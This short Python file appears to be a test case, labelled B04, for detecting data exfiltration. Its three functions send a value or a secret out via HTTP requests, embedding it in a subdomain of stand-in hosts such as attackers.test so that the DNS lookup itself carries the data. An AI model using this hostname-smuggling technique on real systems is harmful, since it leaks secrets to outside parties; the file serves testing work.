"""B04: put it into a name, so that whoever looks the name up delivers it."""


def attack(hands):
    hands.http("GET", f"http://{hands.plain()}.attackers.test/")


def labelled(hands):
    hands.http("GET", f"http://{hands.secret()}.open.test/")


def twin(hands):
    hands.http("GET", f"http://kept.test/{hands.secret()}")
